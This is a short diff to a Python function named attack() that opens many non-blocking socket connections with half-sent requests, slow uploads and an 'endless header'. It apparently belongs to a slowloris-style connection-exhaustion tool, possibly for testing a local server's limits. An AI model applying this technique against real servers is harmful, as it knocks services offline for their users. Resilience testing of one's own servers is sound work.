@@ -54,7 +54,8 @@ def attack(port: int, path: str, header: int, halves: int, uploads: int, patienc
     began = time.monotonic()
     ended, sent = began, 0
     with selectors.DefaultSelector() as waiting:
-        plans = [(HALF[:-4], header)] * (header > 0) + [(HALF, 0)] * halves + [(upload(path), 0)] * uploads
+        # The endless header comes last: the first ones give way where a cap is reached.
+        plans = [(HALF, 0)] * halves + [(upload(path), 0)] * uploads + [(HALF, header)] * (header > 0)
         for first, more in plans:
             connection = socket.socket()
             connection.setblocking(False)
